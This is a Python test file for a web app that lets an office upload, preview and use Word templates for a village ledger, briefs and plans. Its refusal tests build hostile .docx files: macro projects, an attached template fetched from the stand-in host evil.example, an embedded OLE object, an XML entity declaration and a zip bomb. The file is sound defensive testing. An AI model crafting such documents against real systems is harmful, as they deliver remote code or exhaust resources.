"""The office's own Word files: handed in, checked, previewed, used."""

import io
import re
import zipfile

import docx
import pytest
from cunce import command
from papers import with_python_docx, words
from paths import TOWN_CODE
from visitor import Visitor

PAGE = "/documents/templates"


@pytest.fixture
def office(served):
    return Visitor(served.address).sign_in_as("office")


def word_file(paragraphs, row=(), header=""):
    """A Word file whose paragraphs are made of runs, and a table of one row."""
    document = docx.Document()
    for runs in paragraphs:
        paragraph = document.add_paragraph()
        for run in runs if isinstance(runs, tuple) else (runs,):
            paragraph.add_run(run)
    if row:
        table = document.add_table(rows=1, cols=len(row))
        for cell, text in zip(table.rows[0].cells, row):
            cell.text = text
    document.sections[0].header.paragraphs[0].text = header
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


GOOD = word_file(
    [("{{标", "题}}"), ("截至", "{", "{截至日", "期}} & <行>")],
    ("{{#台账}}{{序号}}", "{{村}}", "{{Problem}}", "{{ 责任岗位 }}{{/台账}}"), header="{{单位}}")


def changed(content, name, add):
    """The file with one more part, or a part changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(
            out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            data = old.read(part)
            new.writestr(part, add(data) if part == name else data)
        if name not in old.namelist():
            new.writestr(name, add(b""))
    return out.getvalue()


def without_head(content):
    """What it says, but for how far the journal had come."""
    return re.sub("[0-9a-f]{64}", "", with_python_docx(content))


def hand_in(visitor, content, document="ledger", name="台账.docx"):
    form = next(f for f in visitor.get(PAGE).forms if f.action == PAGE)
    return visitor.send_files(
        form, [("files", name, content)], page=PAGE, document=document)


def test_a_template_is_checked_previewed_and_used(served, office):
    ours = office.get("/documents/ledger.docx").body
    said = without_head(ours)
    answer = hand_in(office, GOOD)
    assert answer.status == 303 and "done=done.template-kept" in answer.location
    page = office.get(PAGE)
    assert "都认得" in page.text and "台账.docx" in page.text
    assert without_head(office.get("/documents/ledger.docx").body) == said, "not used yet"

    preview = office.get(re.search(r'href="([^"]+\?preview=1)"', page.text)[1])
    rows = docx.Document(io.BytesIO(preview.body)).tables[0].rows
    assert with_python_docx(preview.body).startswith("预览，不作正式文件")
    use = next(f for f in page.forms if f.action == f"{PAGE}/ledger/use")
    assert office.submit(use, page=PAGE).status == 303

    made = office.get("/documents/ledger.docx")
    assert "filename*=UTF-8''" in made.headers["Content-Disposition"]
    document = docx.Document(io.BytesIO(made.body))
    assert document.sections[0].header.paragraphs[0].text == "示范镇"
    assert document.paragraphs[0].text == "后进村整治台账"
    assert re.fullmatch(r"截至\d{4}年\d+月\d+日 & <行>", document.paragraphs[1].text)
    texts = [[cell.text for cell in row.cells] for row in document.tables[0].rows]
    assert len(texts) == len(rows) > 20 and texts[0][0] == "1" and texts[0][1] == "溪坑店村"
    assert "{{" not in with_python_docx(made.body)
    ledger = words(with_python_docx(ours))
    assert all(words(row[2]) in ledger for row in texts)

    # By command the same; and back to the official layout.
    again = command("journal", "verify", data=served.data)
    assert again.returncode == 0, again.stdout
    back = next(f for f in office.get(PAGE).forms
                if f.action == f"{PAGE}/ledger/use" and "file" not in f.kinds())
    assert office.submit(back, page=PAGE).status == 303
    assert without_head(office.get("/documents/ledger.docx").body) == said
    assert office.get(PAGE).text.count("台账.docx") >= 1, "what was replaced is kept"


def test_what_is_unknown_or_broken_is_said_with_its_place(office):
    content = word_file(
        ["{{标体}}", "{{完全不相干的东西}}", "开头 {{标题", "结尾}} 之后", "{{#台账}}"],
        ("{{#台账}}{{序号}}", "{{责任岗}}{{/台账}}"))
    assert hand_in(office, content, name="要改.docx").status == 303

    page = office.get(PAGE)

    assert "第 1 段：不认得 标体，是不是 标题？" in page.text
    assert "第 2 段：不认得 完全不相干的东西。" in page.text
    assert re.search(r"第 3 段：占位符没有写完整：[^<]*标题", page.text)
    assert re.search(r"第 4 段：占位符没有写完整：[^<]*结尾", page.text)
    assert "第 5 段：占位符没有写完整：#台账" in page.text
    assert "不认得 责任岗，是不是 责任岗位？" in page.text
    assert not [f for f in page.forms if f.action == f"{PAGE}/ledger/use"], "nothing to choose"
    file = re.search(r'href="/documents/templates/ledger/([0-9a-f]{64})"', page.text)[1]
    refused = office.post(f"{PAGE}/ledger/use", [
        ("csrf", dict(page.forms[-1].filled())["csrf"]),
        ("command", "try-a-bad-template"), ("file", file)])
    assert refused.status == 422 and "要改" in refused.text
    preview = office.get(f"/documents/templates/ledger/{file}?preview=1")
    assert "{{标体}}" in with_python_docx(preview.body), "a preview shows what is unknown"
    assert office.get(f"/documents/templates/ledger/{file}").body == content


BAD = {
    "macros": (changed(GOOD, "word/vbaProject.bin", lambda _: b"x"), "宏"),
    "macro type": (changed(GOOD, "[Content_Types].xml", lambda d: d.replace(
        b"wordprocessingml.document.main", b"wordprocessingml.document.macroEnabled.main")), "宏"),
    "attached template": (changed(GOOD, "word/_rels/settings.xml.rels", lambda _: (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')),
        "evil.example"),
    "embedded": (changed(GOOD, "word/embeddings/oleObject1.bin", lambda _: b"x"), "嵌有"),
    "entities": (changed(GOOD, "word/document.xml", lambda _: (
        b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')), "word/document.xml"),
    "not well-formed": (changed(GOOD, "word/document.xml", lambda d: d[:-40]), "word/document.xml"),
    "bomb": (changed(GOOD, "word/media/a.bin", lambda _: b"\0" * (130 << 20)), "过大"),
    "broken off": (GOOD[:-200], "打不开"),
    "text": ("不是 Word".encode(), "docx"),
    "too large": (GOOD + b"\0" * (21 << 20), "20 MB"),
    "empty": (b"", ""),
}


@pytest.mark.parametrize("what", BAD)
def test_a_file_that_cannot_be_a_template_is_refused_in_words(office, what):
    content, said = BAD[what]
    answer = hand_in(office, content, name="坏.docx")

    assert answer.status in (400, 413, 422), (what, answer.status, answer.location)
    assert said in answer.text, (what, answer.words[-800:])
    assert '<option value="ledger" selected' in answer.text, "what was chosen is kept"
    assert "坏.docx" not in office.get(PAGE).text


def test_a_plan_and_a_brief_take_templates_too(office):
    brief = word_file(["{{标题}} {{期号}}", "{{总体进展}}", "{{发文单位}} {{日期}}"])
    plan = word_file(["{{标题}}", "{{目标}}"],
                     ("{{#任务}}{{措施}}", "{{任务}}", "{{期限}}{{/任务}}"))
    for document, content in (("brief", brief), ("plan", plan)):
        assert hand_in(office, content, document).status == 303
        page = office.get(PAGE)
        use = next(f for f in page.forms if f.action == f"{PAGE}/{document}/use")
        assert office.submit(use, page=PAGE).status == 303
    made = docx.Document(io.BytesIO(office.get("/documents/brief.docx?week=2026-W47").body))
    assert made.paragraphs[0].text == "后进村整治专报 2026年第14期"
    assert len(made.paragraphs) > 4, "a sentence each"
    made = docx.Document(io.BytesIO(
        office.get(f"/documents/plan.docx?village={TOWN_CODE}203").body))
    assert len(made.tables[0].rows) > 5 and made.tables[0].rows[0].cells[2].text.endswith("日")


def test_templates_are_the_organisation_offices(served):
    for post in ("secretary", "cadre-a", "admin"):
        assert Visitor(served.address).sign_in_as(post).get(PAGE).status in (403, 404), post
